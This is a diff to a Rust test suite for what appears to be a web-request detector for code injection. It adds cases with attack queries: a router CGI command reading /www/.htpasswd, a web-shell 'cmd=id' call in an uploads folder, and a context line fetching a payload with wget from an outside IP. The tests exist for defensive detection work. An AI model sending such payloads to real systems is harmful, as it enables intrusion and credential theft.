@@ -442,9 +442,26 @@ fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
         Some("cd+/tmp;wget+http://198.51.100.1/m"),
         None
     ));
-    // Ordinary requests.
+    // A command parameter holding a command line, or a reconnaissance command, sent to a
+    // script: a device CGI, a web shell dropped in uploads.
+    assert!(code(
+        "/setup.cgi",
+        Some("next_file=netgear.cfg&todo=syscmd&cmd=cat+/www/.htpasswd&curpath=/"),
+        None
+    ));
+    assert!(code("/wp-content/uploads/2024/05/x.PHP", Some("cmd=id"), None));
+    // Ordinary requests, command APIs among them (the same parameters, no script).
     for (path, query, ua) in [
         ("/api/v1/search", Some("q=curl+tutorial&sort=new"), None),
+        (
+            "/api/v1/namespaces/default/pods/web-0/exec",
+            Some("command=sh&command=-c&command=uname+-a&stdout=true"),
+            None,
+        ),
+        ("/explain", Some("cmd=ls+-la"), None),
+        ("/api/41/project/ops/run/command", Some("exec=ps+aux"), None),
+        ("/php/connector.php", Some("cmd=ls&target=l1_Lw"), None),
+        ("/search.php", Some("q=uname+-a"), None),
         ("/docs/shell", Some("topic=rm%20command"), None),
         ("/api/v1/templates", Some("body=Hello+%24%7Bname%7D"), None),
         (
